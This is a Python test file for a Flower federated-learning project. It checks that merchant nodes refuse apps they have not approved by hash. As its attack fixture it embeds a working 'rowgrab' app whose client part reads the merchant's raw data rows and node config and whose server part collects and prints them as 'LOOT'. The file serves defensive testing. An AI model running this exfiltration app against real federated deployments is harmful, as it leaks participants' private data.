"""Only apps a merchant approved run on its machine (client/approval.py).

The attack this stops: someone holding only the CA certificate runs ``flwr run`` with their own
app; the SuperLink accepts it (Flower 1.41 has no Control API authentication without its
enterprise edition) and, before the check, every SuperNode ran that ClientApp, which replied with
the merchant's raw rows and node config."""

from __future__ import annotations

import hashlib
import json
import logging
from pathlib import Path

import pytest
from flwr.app import Context, RecordDict

from client import approval
from client.policy import MerchantPolicy
from simulations.deploy import local, processes
from tests.deployment.test_local_deployment import TINY, needs_flower

# --- the outsider's app: a ClientApp that sends back the merchant's rows ----------------------

_PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "rowgrab"
version = "1.0.0"
dependencies = ["flwr>=1.41"]

[tool.hatch.build.targets.wheel]
packages = ["."]

[tool.flwr.app]
publisher = "outsider"

[tool.flwr.app.components]
serverapp = "rowgrab_server:app"
clientapp = "rowgrab_client:app"

[tool.flwr.app.config]
out = "{out}"
"""

_CLIENT = """\
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def grab(msg, context):
    node = {k: str(v) for k, v in context.node_config.items()}
    rows = Path(node["data-path"]).read_text().splitlines()[:21]
    return Message(RecordDict({"loot": ConfigRecord({"rows": rows, **node})}), reply_to=msg)
"""

_SERVER = """\
import json

from flwr.app import Message, RecordDict
from flwr.serverapp import Grid, ServerApp

app = ServerApp()


@app.main()
def main(grid: Grid, context) -> None:
    nodes = list(grid.get_node_ids())
    out = []
    if nodes:
        msgs = [Message(RecordDict(), dst_node_id=n, message_type="query") for n in nodes]
        for reply in grid.send_and_receive(msgs, timeout=60):
            if reply.has_error():
                out.append({"error": reply.error.reason})
            else:
                loot = dict(reply.content["loot"])
                print("LOOT", json.dumps(loot))
                out.append({"loot": loot})
    with open(context.run_config["out"], "w") as f:
        json.dump({"nodes": len(nodes), "replies": out}, f)
"""


def make_rowgrab_app(folder: Path, out: Path) -> Path:
    folder.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(_PYPROJECT.format(out=out))
    (folder / "rowgrab_client.py").write_text(_CLIENT)
    (folder / "rowgrab_server.py").write_text(_SERVER)
    return folder


# --- the check itself, without processes ------------------------------------------------------


def test_approval_lists_hashes_files_and_the_refusal_names_the_hash(tmp_path, caplog):
    app = make_rowgrab_app(tmp_path / "rowgrab", tmp_path / "out.json")
    fab = approval.build_fab(app)
    identity = approval.fab_identity(fab)
    assert identity.sha256 == hashlib.sha256(fab).hexdigest()
    assert (identity.fab_id, identity.version) == ("outsider/rowgrab", "1.0.0")
    assert approval.build_fab(app) == fab  # deterministic: the hash flwr run will submit

    listed = approval.write_approvals(tmp_path / "approved.txt", [identity])
    assert approval.parse_approvals([str(listed)]) == {identity.sha256}
    assert approval.parse_approvals([identity.sha256.upper(), ""]) == {identity.sha256}
    approval.check_fab(fab, frozenset({identity.sha256}))

    with (
        caplog.at_level(logging.ERROR, logger="client.approval"),
        pytest.raises(approval.AppNotApproved, match=identity.sha256),
    ):
        approval.check_fab(fab, frozenset())
    assert identity.line() in caplog.text and "no approved apps" in caplog.text
    with pytest.raises(approval.AppNotApproved, match="mismatch"):
        approval.check_fab(fab, frozenset({identity.sha256}), claimed_hash="0" * 64)
    bad = tmp_path / "bad.txt"
    bad.write_text("outsider/rowgrab 1.0.0\n")
    with pytest.raises(ValueError, match="not a FAB SHA-256"):
        approval.parse_approvals([str(bad)])


def test_gate_reads_the_node_config_and_refuses_before_install(tmp_path):
    fab = approval.build_fab(make_rowgrab_app(tmp_path / "rowgrab", tmp_path / "out.json"))
    identity = approval.fab_identity(fab)
    installed = []

    def puller(node_config):
        def pull(_client):
            context = Context(
                run_id=1, node_id=2, node_config=node_config, state=RecordDict(), run_config={}
            )
            return "msg", context, "run", type("Fab", (), {"hash_str": identity.sha256})()

        return pull

    def install(content, **_):
        installed.append(content)

    for node_config, ok in [
        ({}, False),  # nothing configured: refused
        ({"approved-apps": "f" * 64}, False),
        ({"approved-apps": f"{'f' * 64},{identity.sha256}"}, True),
        ({"approved-apps": str(tmp_path / "missing.txt")}, False),  # unreadable: refused
    ]:
        gate = approval.ApprovalGate()
        gate.wrap_pull(puller(node_config))(None)
        if ok:
            gate.wrap_install(install)(fab, skip_prompt=True)
        else:
            with pytest.raises(approval.AppNotApproved):
                gate.wrap_install(install)(fab, skip_prompt=True)
    assert installed == [fab]
    flag_only = approval.ApprovalGate([identity.sha256])  # client.warm_exec --approved-apps
    flag_only.wrap_install(install)(fab)
    policy = MerchantPolicy.from_settings({"approved-apps": ["a", "b"]})
    assert policy.approved_apps == ("a", "b")


# --- the attack, on a real deployment ---------------------------------------------------------


def _rows(csv: Path) -> list[str]:
    return [line for line in csv.read_text().splitlines()[1:21] if line.strip()]


@needs_flower
def test_outsider_app_is_refused_by_every_merchant_and_the_approved_app_runs(tmp_path):
    """TLS + SuperNode auth + warm SuperExecs; the outsider's app (approved by nobody) gets an
    error reply from every merchant and not one row; then this project's app runs. Last, the
    control: once merchant 0 alone approves the outsider's exact bundle, its rows do leave (the
    test would see a leak) and merchant 1 still refuses."""
    settings = local.DeploymentSettings(
        merchants=2, rounds=1, out=tmp_path / "run", rows_per_merchant=200, run_config=TINY
    )
    run_dir = settings.out.resolve()
    data_paths, metadata, dataset = local.prepare_data(settings, run_dir)
    run_config = local.write_run_config(settings, run_dir, metadata, dataset)
    loot = tmp_path / "loot.json"
    outsider = make_rowgrab_app(tmp_path / "rowgrab", loot)
    outsider_app = approval.fab_identity(approval.build_fab(outsider))
    outsider_hash = outsider_app.sha256

    with local.LocalFederation(run_dir, tls=True, auth=True, startup_timeout=60) as federation:
        for i, path in enumerate(data_paths):
            name = f"merchant-{i}"
            node = local.merchant_config(
                run_dir, name, path, 0.2, metadata=metadata, run_config=settings.run_config
            )
            federation.start_merchant(name, node)
        federation.run(None, timeout=150, app=outsider)
        refused = loot.read_text()
        logs = run_dir / "logs"  # the SuperLink side's output so far (logs are appended to)
        server_side = (logs / "superlink.log").read_text() + (logs / "flwr-run.log").read_text()
        federation.run(run_config, timeout=300)  # the approved app still runs
        federation.approve("merchant-0", outsider_app)
        federation.run(None, timeout=150, app=outsider)
        control = json.loads(loot.read_text())
        pids = list(federation.started)

    got = json.loads(refused)
    assert got["nodes"] == 2
    assert len(got["replies"]) == 2  # answered at once, with errors only
    assert all("error" in r and "not approved" in r["error"] for r in got["replies"])
    assert all(outsider_hash in r["error"] for r in got["replies"])

    assert "LOOT" not in server_side
    for i, csv in enumerate(data_paths):
        exec_log = (logs / f"merchant-{i}-exec.log").read_text()
        assert "REFUSED app outsider/rowgrab 1.0.0" in exec_log
        assert f"{outsider_hash}  # outsider/rowgrab 1.0.0" in exec_log  # what to approve
        for row in _rows(csv):
            assert row not in server_side
            assert row not in refused
    assert "data-path" not in refused
    local.check_finished(run_dir, 1)

    leaked = [r["loot"] for r in control["replies"] if "loot" in r]
    assert len(leaked) == 1 and leaked[0]["merchant-id"] == "merchant-0"
    assert _rows(data_paths[0])[0] in leaked[0]["rows"]
    assert sum("not approved" in r.get("error", "") for r in control["replies"]) == 1
    assert "LOOT" in (logs / "flwr-run.log").read_text()  # a leak would have shown here
    assert not [pgid for pgid in pids if processes.group_alive(pgid)]
